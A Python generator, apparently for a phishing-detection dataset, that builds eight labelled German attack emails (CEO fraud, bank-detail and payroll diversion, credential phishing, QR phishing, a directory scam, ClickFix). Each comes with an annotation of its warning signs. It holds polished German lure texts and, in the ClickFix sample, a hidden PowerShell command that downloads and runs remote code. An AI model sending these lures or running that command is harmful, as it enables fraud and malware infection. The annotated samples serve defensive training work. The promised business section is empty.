"""German messages: attacks 01-08, business 01-08."""
import infra
from common import (attack, business, T, H, ALT, MIXED, RELATED, ATT, addr,
                    subj, utc, Ctx, build, S, BANK, TAX, esc, ohtml,
                    paras_html, office_ip)
import ids
import qr
from docs import letter_pdf, invoice_pdf, form_pdf

IB = ids.iban_pretty
LIEF_HEAD = ["Lieferant GmbH",
             "Kälte- und Messtechnik · Hafenrandstraße 41 · 28217 Bremen · Tel. +49 421 69 47 30-0 · www.lieferant-gmbh.de"]
LIEF_FOOT = ["Lieferant GmbH · Sitz Bremen · Amtsgericht Bremen HRB 28417 HB · Geschäftsführer: Hans-Peter Lindemann, Dr. Anja Rohlfs",
             "USt-IdNr. %s · Die Sparkasse Bremen · IBAN %s · BIC SBREDE22XXX" % (TAX["lief"], IB(BANK["lief_old"]))]
EG_ADDR = ["Example Group GmbH", "Kreditorenbuchhaltung", "Kühlhausstraße 12", "21129 Hamburg"]
LIEF_SIG = """Lieferant GmbH
Kälte- und Messtechnik
Hafenrandstraße 41, 28217 Bremen
Tel. +49 421 69 47 30-0
www.lieferant-gmbh.de

Sitz Bremen, Amtsgericht Bremen HRB 28417 HB
Geschäftsführer: Hans-Peter Lindemann, Dr. Anja Rohlfs"""


def who(k, native=False):
    return addr(S[k]["name"], S[k]["addr"], "iso-8859-1", "Q")


# ======================================================================
# ATTACKS
# ======================================================================

@attack("de", "ceo-fraud-vertrauliche-akquisition",
        "CEO fraud: 'Dr. Jürgen Köhler' asks the CFO to deposit a 486,300 EUR escrow for a confidential takeover in Rotterdam, a 'lawyer' will send account details",
        "Look-alike domain examplegroup-eu.com (real: examplegroup.eu) on a Hetzner VPS with its own Postfix; no prior thread; secrecy ('not even Brandt or accounting'), same-day deadline, CEO 'not reachable by phone', hand-off to an unknown lawyer - textbook BEC/CEO fraud. Hard negative: business/01.")
def a01():
    t = utc(2026, 10, 15, 16, 47, 12, "DE")
    ctx = Ctx("a01", t, S["weiss"]["addr"])
    snd = "juergen.koehler@examplegroup-eu.com"
    r = infra.vps_direct(ctx, snd, "mail.examplegroup-eu.com",
                         "static.46.219.107.91.clients.your-server.de", "91.107.219.46",
                         mua="olk16", lang="de", sub_from="DESKTOP-Q8N3VRT (unknown [185.213.154.71])")
    text = """Hallo Frau Weiß,

sind Sie heute noch bis ca. 18 Uhr im Büro?

Wie Sie wissen, sprechen wir seit einigen Wochen mit einem Kühlhausbetreiber im Rotterdamer Hafen über eine Übernahme. Die Gespräche sind inzwischen weiter als gedacht, der Beirat ist informiert. Bis zur Unterzeichnung muss das Projekt aber strikt vertraulich bleiben - bitte sprechen Sie intern mit niemandem darüber, auch nicht mit Herrn Brandt oder der Buchhaltung. Intern läuft das Projekt unter dem Namen "Nordlicht".

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Sicherheitsleistung von 486.300,00 EUR auf einem Treuhandkonto hinterlegen. Die Abwicklung übernimmt Dr. Marc Lenz von der Kanzlei Lenz & Haverkamp in Amsterdam. Er wird Sie in den nächsten Minuten direkt kontaktieren und Ihnen die Kontodaten sowie das Schreiben für die Bank zukommen lassen. Bitte stimmen Sie alles Weitere direkt mit ihm ab.

Ich sitze bis morgen Abend in den Verhandlungen und bin telefonisch nicht erreichbar, lese aber meine Mails. Bitte bestätigen Sie mir kurz, dass Sie das heute noch übernehmen können.

Danke und Gruß
Jürgen Köhler

Dr. Jürgen Köhler
Geschäftsführer
Example Group GmbH
"""
    body = T(text, "iso-8859-1", "quoted-printable")
    return build(ctx, r, {
        "From": addr("Dr. Jürgen Köhler", snd, "iso-8859-1", "Q", quote="outer"),
        "To": addr("Sabine Weiß", S["weiss"]["addr"], "iso-8859-1", "Q"),
        "Subject": "Vertraulich - Projekt Nordlicht",
    }, body)


@attack("de", "lieferant-bankverbindung-lookalike",
        "Supplier bank-detail change: 'Petra Lang, Lieferant GmbH' announces a new account at a Lithuanian e-money bank and asks to pay open items there; signed-looking PDF letter",
        "Sent from look-alike domain lieferant-gmbh.com (real: lieferant-gmbh.de) hosted on Zoho Mail EU; a Bremen GmbH switching to a foreign neobank (LT IBAN, BIC REVOLT21), old account 'closed', open invoices to be redirected immediately, callback number is a mobile 'because of the move'. Classic vendor-impersonation BEC. Hard negatives: business/02, business/04.")
def a02():
    t = utc(2026, 11, 3, 10, 12, 40, "DE")
    ctx = Ctx("a02", t, S["schroeder"]["addr"])
    snd = "p.lang@lieferant-gmbh.com"
    r = infra.zoho_eu(ctx, snd, "82.102.27.166")
    text = """Sehr geehrte Frau Schröder,

anbei erhalten Sie unsere Mitteilung über die Änderung unserer Bankverbindung.

Im Zuge der Umstellung unseres Cash-Managements auf die Konzernmutter werden Zahlungen ab sofort ausschließlich über das im Schreiben genannte Konto abgewickelt. Unser bisheriges Konto bei der Sparkasse Bremen wird zum 15.11.2026 geschlossen; Zahlungen dorthin werden ab diesem Zeitpunkt zurückgebucht.

Wir bitten Sie, Ihre Kreditorenstammdaten entsprechend anzupassen und die noch offenen Posten RE-2026-10712 (11.284,30 EUR) und RE-2026-10759 (7.936,12 EUR) bereits auf die neue Bankverbindung zu überweisen.

Für eine kurze Bestätigung der Umstellung per E-Mail wären wir Ihnen dankbar. Aufgrund unseres Büroumzugs bin ich diese Woche am besten unter meiner Mobilnummer +49 1521 7493385 erreichbar.

Mit freundlichen Grüßen

i. A. Petra Lang
Debitorenbuchhaltung

""" + LIEF_SIG
    html = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head><body><div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\">" + \
        paras_html(text) + "</div><br></body></html>"
    pdfb = letter_pdf(
        LIEF_HEAD, EG_ADDR, "Bremen, 02.11.2026",
        "Mitteilung über die Änderung unserer Bankverbindung",
        ["Sehr geehrte Damen und Herren,",
         "wir möchten Sie darüber informieren, dass sich im Rahmen der Zentralisierung des Zahlungsverkehrs innerhalb unserer Unternehmensgruppe unsere Bankverbindung mit sofortiger Wirkung ändert.",
         "Bitte leisten Sie alle Zahlungen, einschließlich bereits fälliger Rechnungen, ab sofort ausschließlich auf folgendes Konto:",
         "Kontoinhaber: Lieferant GmbH   ·   Bank: Revolut Bank UAB   ·   IBAN: %s   ·   BIC: REVOLT21" % IB(BANK["mule_lt"]),
         "Unser bisheriges Konto bei der Sparkasse Bremen wird zum 15.11.2026 aufgelöst. Wir bitten Sie, Ihre Stammdaten umgehend anzupassen und uns die Änderung kurz zu bestätigen.",
         "Für Ihr Verständnis und die gute Zusammenarbeit bedanken wir uns."],
        ["Mit freundlichen Grüßen", "", "Lieferant GmbH", "", "gez. Hans-Peter Lindemann", "Geschäftsführer"],
        LIEF_FOOT[:1] + ["USt-IdNr. %s · www.lieferant-gmbh.de" % TAX["lief"]],
        dict(title="Mitteilung Bankverbindung", author="Petra Lang", creator="Microsoft® Word für Microsoft 365",
             producer="Microsoft® Word für Microsoft 365", date=(2026, 11, 2, 16, 5, 11), tz="+01'00'"))
    body = MIXED(r, ALT(r, T(text, "UTF-8", "quoted-printable"), H(html, "UTF-8", "quoted-printable")),
                 ATT(pdfb, "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf"))
    return build(ctx, r, {
        "From": addr("Petra Lang", snd),
        "To": addr("Monika Schröder", S["schroeder"]["addr"], "UTF-8", "Q"),
        "Subject": subj("Änderung unserer Bankverbindung - Lieferant GmbH", "UTF-8", "Q"),
    }, body)


@attack("de", "thread-hijack-lieferant-auftragsbestaetigung",
        "Thread hijack from the genuinely compromised mailbox of Stefan Maier (Lieferant GmbH): reply in a real order thread, 'updated order confirmation' behind a link",
        "Genuine sender and Lieferant's real Microsoft 365 infrastructure, correct In-Reply-To/References, but: sent 06:41, 'anbei' without any attachment, the 'secure document exchange' link goes to a Cloudflare Pages site (lgmbh-auftrag-4500018734.pages.dev) that asks for the Microsoft 365 login - AiTM credential phishing from a compromised partner. Hard negatives: business/03, business/04.")
def a03():
    t = utc(2026, 11, 20, 6, 41, 3, "DE")
    ctx = Ctx("a03", t, S["mueller"]["addr"])
    snd = "s.maier@lieferant-gmbh.de"
    r = infra.m365(ctx, snd, "deu", tenant_id="5f3c2a71-8d4e-4b6a-9c1f-2e7d0a8b3c94",
                   topic="Bestellung 4500018734 - Datenlogger TL-40 und Thermohauben",
                   tindex=infra.thread_index(ctx, 3), originating_ip="45.134.142.27")
    link = "https://lgmbh-auftrag-4500018734.pages.dev/?doc=AB-4500018734-rev2&u=frank.mueller%40example.com"
    quote = """Von: Frank Müller <frank.mueller@example.com>
Gesendet: Mittwoch, 18. November 2026 15:42
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Bestellung 4500018734 - Datenlogger TL-40 und Thermohauben

Hallo Herr Maier,

danke für die Auftragsbestätigung. Können Sie die 120 Thermohauben auf KW 48 vorziehen? Die Datenlogger können wie geplant in KW 49 kommen.

Gruß
Frank Müller

Von: Stefan Maier <s.maier@lieferant-gmbh.de>
Gesendet: Dienstag, 17. November 2026 11:08
An: Frank Müller <frank.mueller@example.com>
Betreff: AW: Bestellung 4500018734 - Datenlogger TL-40 und Thermohauben

Hallo Herr Müller,

vielen Dank für Ihre Bestellung. Die Auftragsbestätigung AB-4500018734 finden Sie anbei. Liefertermin für 120 Thermohauben TH-1208 und 40 Datenlogger TL-40 ist derzeit KW 49.

Mit freundlichen Grüßen
Stefan Maier
Vertrieb Innendienst"""
    text = """Guten Morgen Herr Müller,

wie gewünscht haben wir die Liefertermine angepasst. Anbei die aktualisierte Auftragsbestätigung mit den neuen Terminen (Thermohauben KW 48, Datenlogger KW 49) sowie die geänderten Konditionen zur Freigabe.

Aus Datenschutzgründen stellen wir Dokumente seit dieser Woche nur noch über unseren gesicherten Dateiaustausch bereit:

Auftragsbestätigung AB-4500018734 (Rev. 2) öffnen:
%s

Bitte melden Sie sich dort mit Ihrer geschäftlichen E-Mail-Adresse an, um das Dokument freizugeben.

Mit freundlichen Grüßen
Stefan Maier
Vertrieb Innendienst

%s

%s
""" % (link, LIEF_SIG, quote)
    sig_html = "<p class=\"MsoNormal\"><span style=\"font-size:9.0pt;color:#595959\">" + "<br>".join(esc(x) for x in LIEF_SIG.split("\n")) + "</span></p>"
    html = ohtml("""Guten Morgen Herr Müller,

wie gewünscht haben wir die Liefertermine angepasst. Anbei die aktualisierte Auftragsbestätigung mit den neuen Terminen (Thermohauben KW 48, Datenlogger KW 49) sowie die geänderten Konditionen zur Freigabe.

Aus Datenschutzgründen stellen wir Dokumente seit dieser Woche nur noch über unseren gesicherten Dateiaustausch bereit:""", "utf-8", sig_html="")
    html = html.replace("</div>\n</body>",
                        '<table cellpadding="0" cellspacing="0" style="margin:10px 0"><tr><td style="background:#0F6CBD;padding:10px 22px">'
                        '<a href="%s" style="color:#ffffff;font-family:Segoe UI,Arial;font-size:11pt;text-decoration:none">'
                        '&#128274; Auftragsbest&auml;tigung AB-4500018734 (Rev. 2) &ouml;ffnen</a></td></tr></table>\n'
                        '<p class="MsoNormal">Bitte melden Sie sich dort mit Ihrer gesch&auml;ftlichen E-Mail-Adresse an, um das Dokument freizugeben.<o:p></o:p></p>\n'
                        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Mit freundlichen Gr&uuml;&szlig;en<br>Stefan Maier<br>Vertrieb Innendienst<o:p></o:p></p>\n%s\n'
                        '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal">%s<o:p></o:p></p></div>\n</div>\n</body>'
                        % (link, sig_html, "<br>".join(esc(x) for x in quote.split("\n"))))
    refs = "<3b8e0f2d9c4a4e71a2d5c6b7e8f90a1b@DEHQ-EX01.corp.example.com>\r\n <FR2P281MB0845C1D0E4A7B9F2C3D5E6A7B8C9D0E1F2@FR2P281MB0845.DEUP281.PROD.OUTLOOK.COM>\r\n <7c1f4e2a0b9d4c38a6e5f1d2c3b4a596@DEHQ-EX02.corp.example.com>"
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    return build(ctx, r, {
        "From": addr("Stefan Maier", snd),
        "To": addr("Frank Müller", S["mueller"]["addr"], "utf-8", "Q"),
        "Subject": subj("AW: Bestellung 4500018734 - Datenlogger TL-40 und Thermohauben"),
        "References": refs,
        "In-Reply-To": "<7c1f4e2a0b9d4c38a6e5f1d2c3b4a596@DEHQ-EX02.corp.example.com>",
    }, body)


@attack("de", "elster-zertifikat-verlaengerung",
        "Credential phishing impersonating ELSTER (German tax portal): organisation certificate 'expires 31.10.', renew via link, else VAT/payroll tax filings blocked",
        "Bulk ESP (Brevo) from elster-zertifikat.de - not elster.de; the call-to-action points to elster-verlaengerung.de-zertifikat.online, which asks for the certificate file and PIN; deadline and sanction pressure. Hard negative: business/07 (same ESP, genuine newsletter).")
def a04():
    t = utc(2026, 10, 12, 8, 3, 51, "DE")
    ctx = Ctx("a04", t, S["brandt"]["addr"])
    snd = "benachrichtigung@elster-zertifikat.de"
    r = infra.brevo(ctx, snd)
    trk = "https://elster-verlaengerung.de-zertifikat.online/eportal/zertifikat?sn=43%2F718%2F40295&t=" + ctx.hex(24)
    text = """Mein ELSTER - Ihr Online-Finanzamt

Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das Organisationszertifikat Ihres Benutzerkontos (Steuernummer 43/718/40295, Example Group GmbH) läuft am 31.10.2026 ab.

Nach Ablauf können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr elektronisch übermittelt werden. Verspätet abgegebene Anmeldungen können Verspätungszuschläge nach § 152 AO nach sich ziehen.

Die Verlängerung dauert etwa 3 Minuten. Halten Sie bitte Ihre Zertifikatsdatei (.pfx) und die zugehörige PIN bereit.

Zertifikat jetzt verlängern:
%s

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
Bayerisches Landesamt für Steuern - Dienststelle München, im Auftrag der Steuerverwaltungen der Länder
""" % trk
    html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Mein ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1d1d1b">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#eef1f4"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #004f9f">
<tr><td style="padding:22px 32px 8px 32px;font-size:22px;font-weight:bold;color:#004f9f">Mein ELSTER <span style="font-weight:normal;font-size:14px;color:#555">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:21px">
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>das <b>Organisationszertifikat</b> Ihres Benutzerkontos (Steuernummer 43/718/40295, Example Group GmbH) l&auml;uft am <b>31.10.2026</b> ab.</p>
<p>Nach Ablauf k&ouml;nnen Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr elektronisch &uuml;bermittelt werden. Versp&auml;tet abgegebene Anmeldungen k&ouml;nnen Versp&auml;tungszuschl&auml;ge nach &sect;&nbsp;152&nbsp;AO nach sich ziehen.</p>
<p>Die Verl&auml;ngerung dauert etwa 3 Minuten. Halten Sie bitte Ihre Zertifikatsdatei (.pfx) und die zugeh&ouml;rige PIN bereit.</p>
<p style="text-align:center;padding:10px 0"><a href="%s" style="background:#004f9f;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px">Zertifikat jetzt verl&auml;ngern</a></p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr ELSTER-Team</p>
</td></tr>
<tr><td style="padding:14px 32px 22px 32px;font-size:11px;color:#777;border-top:1px solid #e3e3e3">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.<br>Bayerisches Landesamt f&uuml;r Steuern &ndash; Dienststelle M&uuml;nchen, im Auftrag der Steuerverwaltungen der L&auml;nder</td></tr>
</table></td></tr></table>
<img src="https://r.sender-sib.com/tr/op/%s" width="1" height="1" alt="" style="display:none">
</body></html>
""" % (trk, ctx.alnum(60, infra.B62 + "_-"))
    body = ALT(r, T(text, "utf-8", "quoted-printable"), H(html, "utf-8", "quoted-printable"))
    unsub = "https://r.sender-sib.com/tr/un/%s" % ctx.alnum(60, infra.B62 + "_-")
    return build(ctx, r, {
        "From": addr("ELSTER - Ihr Online-Finanzamt", snd, quote=False),
        "To": S["brandt"]["addr"],
        "Subject": subj("Ihr ELSTER-Zertifikat läuft am 31.10.2026 ab – Verlängerung erforderlich", "utf-8", "B"),
        "List-Unsubscribe": "<%s>, <mailto:unsubscribe-%s@sibmail.com>" % (unsub, ctx.hex(12)),
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
        "Reply-To": "noreply@elster-zertifikat.de",
    }, body)


@attack("de", "quishing-m365-authenticator",
        "Quishing: fake 'IT-Service Example Group' demands Microsoft Authenticator re-registration by 30.10.; QR code (inline PNG) to be scanned with the phone, 'not on the company PC'",
        "Sent from the hijacked mailbox of an unrelated bakery (info@landbaeckerei-hinrichs.de via Strato) with a spoofed display name; the QR code encodes https://pub-…r2.dev/mfa/… (Cloudflare R2, AiTM login page with the victim's address in the fragment); moving the victim to the phone evades desktop protection; lock-out threat. Hard negative: business/06.")
def a05():
    t = utc(2026, 10, 28, 7, 55, 18, "DE")
    ctx = Ctx("a05", t, S["schroeder"]["addr"])
    snd = "info@landbaeckerei-hinrichs.de"
    r = infra.strato(ctx, snd, "102.129.143.60", mua="tb", lang="de-DE")
    url = "https://pub-7f3c1e9a0b2d4c6e8f1a3b5c7d9e0f21.r2.dev/mfa/index.html#bW9uaWthLnNjaHJvZWRlckBleGFtcGxlLmNvbQ=="
    png = qr.qr_png(url, "M", 5)
    text = """Liebe Kolleginnen und Kollegen,

im Rahmen der konzernweiten Umstellung auf phishingresistente Anmeldeverfahren müssen alle Benutzerkonten bis Freitag, 30.10.2026, neu in der Microsoft Authenticator App registriert werden. Konten ohne Neuregistrierung werden ab dem 31.10.2026 automatisch gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den QR-Code in dieser E-Mail (in der HTML-Ansicht).
3. Melden Sie sich mit Ihrer gewohnten E-Mail-Adresse und Ihrem Passwort an und bestätigen Sie die Anfrage in der App.

Wichtig: Bitte führen Sie die Registrierung ausschließlich mit dem Smartphone durch, nicht am Firmen-PC.

Vielen Dank für Ihre Mithilfe.
Ihr IT-Service
Example Group
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">
<tr><td style="background:#f3f2f1;padding:14px 20px;font-size:16px"><b>Microsoft 365</b> &nbsp;|&nbsp; IT-Service Example Group</td></tr>
<tr><td style="padding:18px 20px">
<p>Liebe Kolleginnen und Kollegen,</p>
<p>im Rahmen der konzernweiten Umstellung auf phishingresistente Anmeldeverfahren m&uuml;ssen alle Benutzerkonten bis <b>Freitag, 30.10.2026</b>, neu in der Microsoft Authenticator App registriert werden. Konten ohne Neuregistrierung werden ab dem 31.10.2026 automatisch gesperrt.</p>
<p><b>So gehen Sie vor:</b> &Ouml;ffnen Sie die Kamera-App Ihres Smartphones, scannen Sie den folgenden QR-Code und melden Sie sich mit Ihrer gewohnten E-Mail-Adresse und Ihrem Passwort an.</p>
<p style="text-align:center"><img src="cid:%s" width="205" height="205" alt="QR-Code"></p>
<p style="color:#a4262c"><b>Wichtig:</b> Bitte f&uuml;hren Sie die Registrierung ausschlie&szlig;lich mit dem Smartphone durch, nicht am Firmen-PC.</p>
<p>Vielen Dank f&uuml;r Ihre Mithilfe.<br>Ihr IT-Service<br>Example Group</p>
</td></tr></table></body></html>
"""
    cid = "part1.%s.%s@landbaeckerei-hinrichs.de" % (ctx.hex(8), ctx.hex(8))
    html = html % cid
    body = ALT(r, T(text, "UTF-8", "base64", style="bare"),
               RELATED(r, H(html, "UTF-8", "base64", style="bare"),
                       ATT(png, "image/png", "mfa-code.png", inline=True, cid=cid)))
    return build(ctx, r, {
        "From": addr("IT-Service Example Group", snd),
        "To": addr("Monika Schröder", S["schroeder"]["addr"], "UTF-8", "Q"),
        "Subject": subj("Pflichtaktualisierung: Microsoft Authenticator – Frist 30.10.2026", "UTF-8", "Q"),
    }, body)


@attack("de", "handelsregister-eintragungsofferte",
        "Fake register 'invoice': 'Zentrales Gewerbe- und Handelsverzeichnis' asks to confirm the entry for HRB 178342 and pay 1,289 EUR/year (3-year term) via an official-looking PDF form",
        "Directory scam (Adressbuchschwindel): official-sounding name, cites the real court/HRB number, looks like a fee notice; the small print reveals a private 3-year listing contract; unrelated to the Handelsregister (Amtsgericht) and sent via Mailgun from zghv-register.de. Pay-to IBAN in Cologne.")
def a06():
    t = utc(2026, 11, 17, 11, 20, 9, "DE")
    ctx = Ctx("a06", t, S["brandt"]["addr"])
    snd = "eintragung@zghv-register.de"
    r = infra.mailgun(ctx, snd, "mg.zghv-register.de")
    text = """Sehr geehrte Damen und Herren,

für das Unternehmen

Example Group GmbH
Kühlhausstraße 12, 21129 Hamburg
Amtsgericht Hamburg HRB 178342

liegt uns zur Aktualisierung der Eintragung im Zentralen Gewerbe- und Handelsverzeichnis (ZGHV) für das Jahr 2027 noch keine Bestätigung vor.

Bitte prüfen Sie die im beigefügten Formular hinterlegten Daten, ergänzen Sie fehlende Angaben und senden Sie das Formular unterschrieben innerhalb von 10 Tagen zurück. Die Eintragungsgebühr ist nach Rücksendung auf das im Formular genannte Konto zu überweisen.

Aktenzeichen: ZGHV-2026-HH-178342
Frist: 27.11.2026

Mit freundlichen Grüßen
Ihr ZGHV-Eintragungsservice

ZGHV Verzeichnisdienste
Postfach 10 14 62, 50454 Köln
"""
    pdfb = form_pdf(
        ["ZGHV · Zentrales Gewerbe- und Handelsverzeichnis",
         "Eintragungsservice · Postfach 10 14 62 · 50454 Köln · eintragung@zghv-register.de"],
        "Eintragungsformular / Aktualisierung 2027 – Az. ZGHV-2026-HH-178342",
        ["Bitte prüfen und ergänzen Sie die nachstehenden Angaben und senden Sie das Formular unterschrieben zurück (E-Mail oder Fax 0221 168 49 37)."],
        [("Firma", "Example Group GmbH"), ("Registergericht / Nr.", "Amtsgericht Hamburg, HRB 178342"),
         ("Anschrift", "Kühlhausstraße 12, 21129 Hamburg"), ("Branche", "Kühllagerung, Kühltransporte"),
         ("Geschäftsführung", "Dr. Jürgen Köhler"), ("Eintragungsgebühr p. a.", "1.289,00 EUR zzgl. USt."),
         ("Zahlbar an", "ZGHV Verzeichnisdienste"), ("IBAN / BIC", "%s / COLSDE33XXX" % IB(BANK["mule_reg"])),
         ("Verwendungszweck", "ZGHV-2026-HH-178342")],
        ["Ort, Datum: ______________________     Stempel / Unterschrift: ______________________________"],
        ["Hinweis: Das ZGHV ist ein privatwirtschaftliches Online-Branchenverzeichnis und steht in keiner Verbindung zu den amtlichen Registern. "
         "Mit der Unterzeichnung und Rücksendung dieses Formulars wird ein Auftrag über die Eintragung im Online-Verzeichnis www.zghv-register.de "
         "mit einer Mindestlaufzeit von drei (3) Jahren erteilt; der Jahresbeitrag ist jeweils im Voraus fällig. Der Auftrag verlängert sich um ein "
         "weiteres Jahr, wenn er nicht drei Monate vor Ablauf schriftlich gekündigt wird. Es gelten unsere AGB (Stand 01/2026). Gerichtsstand ist Köln."],
        ["ZGHV Verzeichnisdienste · Postfach 10 14 62 · 50454 Köln"],
        dict(title="Eintragungsformular ZGHV", author="ZGHV", creator="Writer",
             producer="LibreOffice 7.6", date=(2026, 11, 16, 13, 2, 44), tz="+01'00'"))
    body = MIXED(r, T(text, "ISO-8859-1", "8bit"),
                 ATT(pdfb, "application/pdf", "Eintragungsformular_HRB178342_2027.pdf"))
    return build(ctx, r, {
        "From": addr("ZGHV Eintragungsservice", snd),
        "To": S["brandt"]["addr"],
        "Subject": "Aktualisierung Ihrer Eintragung 2027 - Example Group GmbH - HRB 178342",
    }, body)


@attack("de", "gehaltskonto-aenderung-freemail",
        "Payroll diversion: 'Björn Hansen' writes to payroll from a web.de address, asks to pay the November salary to a new neobank account",
        "Unknown private address (the employee's known private address is bjoern.hansen78@gmx.de, see business/05); payroll bank change requested by e-mail instead of the HR form, right before the payroll cut-off, with an excuse for not using the company account; neobank account. Classic payroll-diversion BEC. Hard negative: business/05.")
def a07():
    t = utc(2026, 11, 19, 21, 14, 37, "DE")
    ctx = Ctx("a07", t, S["krueger"]["addr"])
    snd = "bjoern.hansen.hh@web.de"
    r = infra.gmx(ctx, snd, brand="webde", client_ip="146.70.117.214")
    text = """Hallo Frau Krüger,

ich habe mein Gehaltskonto gewechselt und möchte Sie bitten, mein Novembergehalt schon auf das neue Konto zu überweisen:

Kontoinhaber: Björn Hansen
IBAN: %s
Bank: N26

Mein altes Konto bei der Haspa wird Ende des Monats aufgelöst.

Ich bin diese Woche noch bei der Inventur im Lager Bremerhaven und komme nicht an meinen Firmenlaptop, deshalb schreibe ich Ihnen von privat.

Können Sie mir kurz bestätigen, dass das für November noch klappt?

Danke und viele Grüße
Björn Hansen
""" % IB(BANK["mule_de_payroll"])
    body = T(text, "UTF-8", "quoted-printable", style="bare")
    return build(ctx, r, {
        "From": addr("Björn Hansen", snd, "UTF-8", "Q"),
        "To": addr("Ines Krüger", S["krueger"]["addr"], "UTF-8", "Q"),
        "Subject": "Neue Bankverbindung",
    }, body)


@attack("de", "timocom-frachtanfrage-clickfix",
        "ClickFix: fake freight request 'via TIMOCOM' from a Gmail 'forwarder'; attached HTML 'load list' shows a fake human-verification asking to press Win+R, Ctrl+V, Enter",
        "Freemail sender posing as a forwarder, plausible reefer load but the 'load list' is an HTML file that imitates a document viewer with a fake CAPTCHA instructing the user to paste a clipboard PowerShell command (iwr … | iex) into the Run dialog - ClickFix malware delivery targeting dispatchers. (Script block neutralised: type=text/plain, inert.)")
def a08():
    t = utc(2026, 12, 1, 9, 37, 22, "DE")
    ctx = Ctx("a08", t, S["hansen"]["addr"])
    snd = "dispo.kowalczyk.spedition@gmail.com"
    r = infra.gmail(ctx, snd)
    text = """Guten Morgen,

bezugnehmend auf Ihr Angebot in der TIMOCOM Frachtenbörse hätten wir kurzfristig folgende Ladung:

Beladung: 03.12.2026, 08:00-11:00, Rotterdam Maasvlakte (Kühlhaus)
Entladung: 04.12.2026, früh, Hamburg-Altenwerder
33 Europaletten Tiefkühlware, -20 °C, ca. 21,5 t
TIMOCOM Fracht-ID: 83472915

Ladeliste mit Temperaturvorgaben und Referenzen im Anhang (öffnet im Browser).

Bitte Ihren Preis bis heute 12 Uhr, Zahlung 30 Tage.

Mit freundlichen Grüßen

Marek Kowalczyk
Disposition
Spedition Kowalczyk GmbH
Tel. +49 152 0473 9921
"""
    html = '<div dir="ltr">' + paras_html(text).replace("\n", "") + "</div>\n"
    cmd = "powershell -w hidden -nop -c \"iex (iwr 'https://cdn-tc-docview.top/v/83472915' -UseBasicParsing).Content\""
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>TIMOCOM Dokumentenansicht - Ladeliste 83472915</title>
<style>
body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#e9ecef}
.bar{background:#003a70;color:#fff;padding:12px 20px;font-size:15px}
.doc{filter:blur(4px);background:#fff;width:760px;margin:30px auto;padding:30px;height:520px}
.ov{position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.45)}
.box{position:fixed;top:22%%;left:50%%;margin-left:-230px;width:460px;background:#fff;border-radius:6px;padding:26px;box-shadow:0 4px 24px rgba(0,0,0,.3)}
.cb{border:1px solid #ccc;padding:14px;font-size:15px}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}
</style></head>
<body>
<div class="bar">TIMOCOM &middot; Dokumentenansicht &middot; Ladeliste_TC83472915.pdf</div>
<div class="doc">Ladeliste / Loading list 83472915 &ndash; Rotterdam &rarr; Hamburg &ndash; 33 EPAL &ndash; -20 &deg;C ...</div>
<div class="ov"></div>
<div class="box">
<div class="cb">&#9744; Ich bin kein Roboter</div>
<p style="font-size:14px">Zur Anzeige gesch&uuml;tzter Frachtdokumente ist eine zus&auml;tzliche Verifizierung erforderlich:</p>
<ol style="font-size:14px;line-height:24px">
<li>Dr&uuml;cken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Eingabe</kbd></li>
</ol>
<p style="font-size:12px;color:#666">Verifizierungs-ID: 5C1E-83472915 &middot; Cloudflare</p>
</div>
<!-- clipboard loader (neutralised: non-executable script type) -->
<script type="text/plain" id="clip">
document.querySelector('.cb').addEventListener('click',function(){navigator.clipboard.writeText(%s + " # \\u2705 I am not a robot - Cloudflare Verification ID: 5C1E");});
</script>
</body></html>
""" % repr(cmd)
    body = MIXED(r, ALT(r, T(text, "UTF-8", "quoted-printable"), H(html, "UTF-8", "quoted-printable")),
                 ATT(att.encode("utf-8"), "text/html", "Ladeliste_TC83472915.html", name_param=True))
    return build(ctx, r, {
        "From": addr("Spedition Kowalczyk - Disposition", snd),
        "To": S["hansen"]["addr"],
        "Subject": subj("Frachtanfrage TIMOCOM 83472915 - 33 EP TK Rotterdam → Hamburg 03.12.", "UTF-8", "B"),
    }, body)


# ======================================================================
# BUSINESS
# ======================================================================

